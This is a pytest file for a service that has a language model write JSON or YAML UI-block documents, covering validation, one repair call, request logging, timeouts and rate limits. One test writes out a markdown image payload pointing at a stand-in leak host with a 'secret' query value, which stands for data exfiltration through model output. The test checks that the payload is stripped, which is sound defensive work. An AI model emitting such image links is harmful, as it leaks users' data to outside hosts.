"""How documents outside of conversations come about, and what may go wrong."""

import asyncio
from typing import Any, Final

import pytest
from structlog.testing import capture_logs

from parleyd.contract.blocks.options import BlockOptions
from parleyd.contract.blocks.prompt import prompt_section
from parleyd.contract.blocks.schema import json_schema
from parleyd.contract.errors import (
    BlockGenerationFailed,
    BlocksInvalid,
    ModelNotConfigured,
    RateLimited,
)
from parleyd.models.script import Fail, Hold, Raise, ScriptedStep, Text, Thought, Unforeseen, Usage
from parleyd.models.scripted import JsonCall, ScriptedModel, in_turn
from parleyd.turns.block_generation import BlockWriter, DocumentWish, WrittenDocument
from parleyd.turns.model import ModelFailureKind
from parleyd.turns.options import TurnLimits
from parleyd.turns.request_log import LoggedRequest

WISH: Final = DocumentWish("reports", "noor", "Draw my sales.")
VALID: Final = '{"v":1,"blocks":[{"type":"divider"}]}'
INVALID: Final = '{"v": 1, "blocks": [{"type": "heading"}, {"type": "text", "markdown": " "}]}'
WORSE: Final = '{"v": 1, "blocks": []}'
FEATURE: Final = "v: 1\nblocks: &all\n  - {type: divider}"
WARNED: Final = (
    '{"v": 1, "blocks": [{"type": "chart", "kind": "line",'
    ' "points": [{"label": "a", "value": 1}]}]}'
)
WITHOUT_ID: Final = (
    '{"v": 1, "blocks": [{"type": "actions", "elements": [{"type": "button", "id": "go",'
    ' "text": "Go", "action": {"kind": "reply", "text": "Go"}}]}]}'
)
WITHOUT_IDS: Final = WITHOUT_ID.replace('"id": "go",', "")
DOCUMENT: Final[Any] = {"v": 1, "blocks": [{"type": "divider"}]}


class Lines:
    """A request log in memory; one that fails where a test says so."""

    def __init__(self, *, fails: bool = False) -> None:
        self.lines: list[LoggedRequest] = []
        self._fails = fails

    async def log_request(self, request: LoggedRequest) -> None:
        if self._fails:
            raise ConnectionError
        self.lines.append(request)


class Scene:
    """A writer with a script for its model, and what it logged."""

    def __init__(self, *steps: ScriptedStep, fails: bool = False, **limits: Any) -> None:
        self.model = ScriptedModel(in_turn(*steps))
        self.log = Lines(fails=fails)
        self.writer = BlockWriter(self.model, self.log, TurnLimits(**limits))

    async def write(self, **wish: Any) -> WrittenDocument:
        return await self.writer.write(DocumentWish(**{**vars(WISH), **wish}))

    @property
    def line(self) -> LoggedRequest:
        (line,) = self.log.lines
        return line


async def test_a_document_takes_one_call_that_is_told_the_catalog_and_the_schema() -> None:
    scene = Scene([Text(VALID)])
    assert await scene.write() == WrittenDocument(DOCUMENT)
    assert scene.model.json_calls == [
        JsonCall(prompt_section(BlockOptions()), WISH.prompt, json_schema(), 0.0)
    ]


async def test_an_instruction_stands_in_for_the_catalog_in_both_calls() -> None:
    scene = Scene([Text(INVALID)], [Text(VALID)])
    await scene.write(system_instruction="Be brief.")
    assert [call.system for call in scene.model.json_calls] == ["Be brief."] * 2
    assert [call.temperature for call in scene.model.json_calls] == [0.0] * 2


@pytest.mark.parametrize(
    "text",
    [
        f"```json\n{VALID}\n```",
        f"  \n```\n{VALID}```\n",
        "v: 1\nblocks:\n  - {type: divider}",
        "```yaml\nv: 1\nblocks:\n  - {type: divider}\n```",
    ],
    ids=["a fence", "white space", "YAML", "YAML in a fence"],
)
async def test_a_document_counts_however_it_is_written(text: str) -> None:
    assert await Scene([Text(text)]).write() == WrittenDocument(DOCUMENT)


async def test_only_the_text_of_the_model_counts() -> None:
    scene = Scene([Thought("Hm."), Text(VALID[:9]), Usage(7), Text(VALID[9:])])
    assert await scene.write() == WrittenDocument(DOCUMENT)


async def test_warnings_are_no_reason_for_another_call() -> None:
    scene = Scene([Text(WARNED)])
    written = await scene.write()
    assert [issue.code for issue in written.warnings] == ["LINE_SINGLE_POINT"]
    assert not written.repaired


async def test_a_document_that_breaks_rules_is_repaired_once_with_its_errors() -> None:
    scene = Scene([Text(INVALID)], [Text(VALID)])
    assert await scene.write() == WrittenDocument(DOCUMENT, repaired=True)
    first, second = scene.model.json_calls
    assert first.prompt == WISH.prompt
    head, _, lines = second.prompt.partition("\n\nErrors:\n")
    assert head == WISH.prompt
    one, other = lines.split("\n")
    assert one.startswith("blocks[0].text MISSING_REQUIRED `blocks[0].text` ")
    assert other.startswith("blocks[1].markdown TOO_SHORT `blocks[1].markdown` ")


async def test_the_errors_of_a_second_document_that_breaks_rules_are_told() -> None:
    scene = Scene([Text(INVALID)], [Text(WORSE)])
    with pytest.raises(BlocksInvalid) as raised:
        await scene.write()
    assert [(issue.path, issue.code) for issue in raised.value.issues] == [("blocks", "TOO_FEW")]
    assert len(scene.model.json_calls) == 2
    assert scene.line.metadata == {"error_codes": ["TOO_FEW"]}


async def test_without_repair_the_errors_of_the_first_are_told() -> None:
    scene = Scene([Text(INVALID)])
    with pytest.raises(BlocksInvalid) as raised:
        await scene.write(repair=False)
    assert [issue.code for issue in raised.value.issues] == ["MISSING_REQUIRED", "TOO_SHORT"]
    assert all(issue.fix for issue in raised.value.issues)
    assert scene.line.metadata == {"error_codes": ["MISSING_REQUIRED", "TOO_SHORT"]}
    assert scene.line.response is None
    assert scene.line.error
    assert scene.line.error.startswith("BLOCKS_INVALID: ")


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ('{"blocks": [{"type": "divider"}]}', "NOT_A_DOCUMENT"),
        ('{"v": 1, "v": 1, "blocks": []}', "NOT_A_DOCUMENT"),
        ('{"v": 1, "blocks": ' + "[" * 300 + "]" * 300 + "}", "NOT_A_DOCUMENT"),
        ('{"v": 2, "blocks": [{"type": "divider"}]}', "UNSUPPORTED_VERSION"),
        ('{"v": 1, "blocks": [{"type": "html", "html": "<b>a</b>"}]}', "HTML_DISABLED"),
        (
            '{"v": 1, "blocks": [{"type": "image", "alt": "a", "src": "https://a.example/a"}]}',
            "IMAGE_HOST_NOT_ALLOWED",
        ),
    ],
    ids=["no version", "twice", "deep", "another version", "HTML", "a host"],
)
async def test_an_object_that_is_no_valid_document_is_repaired(text: str, code: str) -> None:
    scene = Scene([Text(text)], [Text(VALID)])
    assert (await scene.write()).repaired
    assert "\n\nErrors:\n" in scene.model.json_calls[1].prompt
    assert f"{code} " in scene.model.json_calls[1].prompt


async def test_callbacks_of_any_name_are_valid() -> None:
    text = WITHOUT_ID.replace('"kind": "reply", "text": "Go"', '"kind": "callback", "name": "go"')
    assert not (await Scene([Text(text)]).write()).repaired


async def test_ids_that_actions_lack_are_filled_in_without_a_second_call() -> None:
    scene = Scene([Text(WITHOUT_ID)])
    written = await scene.write(repair=False)
    assert isinstance(written.document["blocks"], list)
    (block,) = written.document["blocks"]
    assert isinstance(block, dict)
    assert (block["id"], written.repaired) == ("actions", False)


async def test_bc_134_no_image_of_the_model_s_choosing_is_loaded() -> None:
    leak = "![](https://leak.example/x?d=secret)"
    text = f'{{"v": 1, "blocks": [{{"type": "text", "markdown": "Hello {leak}"}}]}}'
    scene = Scene([Text(text)])
    written = await scene.write()
    assert "leak.example" not in str(written.document)


async def test_where_more_is_wrong_the_model_hears_of_every_error_as_it_is() -> None:
    scene = Scene([Text(WITHOUT_IDS)], [Text(WITHOUT_ID)])
    written = await scene.write()
    assert written.repaired
    lines = scene.model.json_calls[1].prompt.split("\n")[3:]
    assert [line.split()[0] for line in lines] == ["blocks[0].elements[0].id", "blocks[0].id"]


FAILING: dict[str, ScriptedStep] = {
    "prose": [Text("I would rather not.")],
    "prose that YAML reads": [Text("Note: this is no document.")],
    "prose that YAML refuses": [Text("**No.**")],
    "YAML with an anchor": [Text(FEATURE)],
    "blank": [Text(" \n")],
    "a list": [Text("[1]")],
    "half an object": [Text(VALID[:20])],
    "prose before a document": [Text(f"Here it is: {VALID}")],
    "nothing": [],
    **{kind: [Fail(kind)] for kind in ModelFailureKind.__args__},
    "a failure after text": [Text(VALID), Fail("server")],
}


@pytest.mark.parametrize("step", FAILING.values(), ids=FAILING.keys())
@pytest.mark.parametrize("second", [False, True], ids=["first", "second"])
async def test_a_call_that_gives_no_object_fails_and_is_not_repeated(
    step: ScriptedStep, *, second: bool
) -> None:
    scene = Scene([Text(INVALID)], step) if second else Scene(step)
    with capture_logs() as lines, pytest.raises(BlockGenerationFailed):
        await scene.write()
    assert len(scene.model.json_calls) == 1 + second
    assert [line["event"] for line in lines] == ["block_generation_failed"]
    assert "document" not in str(lines)
    assert (scene.line.response, scene.line.metadata) == (None, None)
    assert scene.line.error
    assert scene.line.error.startswith("BLOCK_GENERATION_FAILED: ")


async def test_the_log_of_requests_has_the_provider_s_words_and_clients_have_not() -> None:
    scene = Scene([Fail("server", "503: the secret pool is empty \0")])
    with pytest.raises(BlockGenerationFailed) as raised:
        await scene.write()
    assert scene.line.error == "BLOCK_GENERATION_FAILED: 503: the secret pool is empty \ufffd"
    assert "secret" not in raised.value.message


async def test_the_unforeseen_passes_and_is_in_the_log_of_requests() -> None:
    scene = Scene([Raise("a secret")])
    with pytest.raises(Unforeseen):
        await scene.write()
    assert scene.line.error == "Unforeseen"


async def test_a_line_of_the_log_says_who_wanted_what_and_what_came() -> None:
    scene = Scene([Text(INVALID)], [Text(VALID)])
    await scene.write()
    line = scene.line
    assert line == LoggedRequest(
        owner="noor",
        conversation_id=None,
        turn_id=None,
        request_type="ui_blocks",
        ai_model="scripted-1",
        prompt=WISH.prompt,
        response=VALID,
        error=None,
        response_time_ms=line.response_time_ms,
        tokens_used=None,
        metadata=None,
    )


async def test_what_can_not_be_stored_is_in_no_document() -> None:
    text = '{"v": 1, "blocks": [{"type": "heading", "text": "a\\u0000\\ud800"}]}'
    scene = Scene([Text(text)])
    written = await scene.write()
    assert written.document["blocks"] == [{"type": "heading", "text": "a\ufffd\ufffd"}]
    assert scene.line.response == '{"v":1,"blocks":[{"type":"heading","text":"a\ufffd\ufffd"}]}'


async def test_a_log_that_fails_fails_nothing() -> None:
    with capture_logs() as lines:
        assert await Scene([Text(VALID)], fails=True).write() == WrittenDocument(DOCUMENT)
        with pytest.raises(BlocksInvalid):
            await Scene([Text(INVALID)], fails=True).write(repair=False)
    assert [line["event"] for line in lines] == ["request_not_logged"] * 2


async def test_without_a_model_there_is_no_document_and_no_line() -> None:
    log = Lines()
    with pytest.raises(ModelNotConfigured):
        await BlockWriter(None, log, TurnLimits()).write(WISH)
    assert log.lines == []


async def test_both_calls_together_take_no_longer_than_a_turn() -> None:
    scene = Scene([Text(INVALID)], [Text(VALID[:9]), Hold("never")], turn_seconds=0.2)
    with capture_logs() as lines, pytest.raises(BlockGenerationFailed):
        await scene.write()
    assert [(line["event"], line["kind"]) for line in lines] == [
        ("block_generation_failed", "timeout")
    ]
    assert scene.model.streaming == 0
    assert len(scene.log.lines) == 1


async def test_who_leaves_ends_the_call_of_the_model() -> None:
    scene = Scene([Hold("never")])
    writing = asyncio.create_task(scene.write())
    async with asyncio.timeout(10):
        await scene.model.holds.reached("never")
        writing.cancel()
        await asyncio.wait([writing])
    assert writing.cancelled()
    assert scene.model.streaming == 0
    assert scene.line.error == "CancelledError"


class Cancelling(ScriptedModel):
    """Cancels a task of its own, as an SDK may."""

    async def generate_json(self, *_: object, **__: object) -> str:
        raise asyncio.CancelledError


async def test_a_task_of_the_adapter_s_own_that_is_cancelled_is_a_failed_call() -> None:
    log = Lines()
    writer = BlockWriter(Cancelling(in_turn()), log, TurnLimits())
    with pytest.raises(BlockGenerationFailed):
        await writer.write(WISH)
    assert len(log.lines) == 1


async def test_a_service_has_only_so_many_written_at_once_and_another_has_its_own() -> None:
    held: ScriptedStep = [Hold("writing"), Text(VALID)]
    scene = Scene(*[held] * 4, [Text(VALID)], owner_turns=2)
    async with asyncio.timeout(10):
        writing = [asyncio.create_task(scene.write(owner=owner)) for owner in ("noor", "eve")]
        await scene.model.holds.reached("writing", 2)
        with pytest.raises(RateLimited, match="At most 2 documents of one service") as raised:
            await scene.write(owner="zoe")
        assert raised.value.limit == 2
        other = asyncio.create_task(scene.write(service="letters"))
        await scene.model.holds.reached("writing", 3)
        writing[0].cancel()
        await asyncio.wait(writing[:1])
        writing.append(asyncio.create_task(scene.write()))
        await scene.model.holds.reached("writing", 4)
        scene.model.holds.release("writing")
        for each in (*writing[1:], other):
            assert await each == WrittenDocument(DOCUMENT)
        assert await scene.write() == WrittenDocument(DOCUMENT)
    assert len(scene.log.lines) == 5, "who was refused has no line"
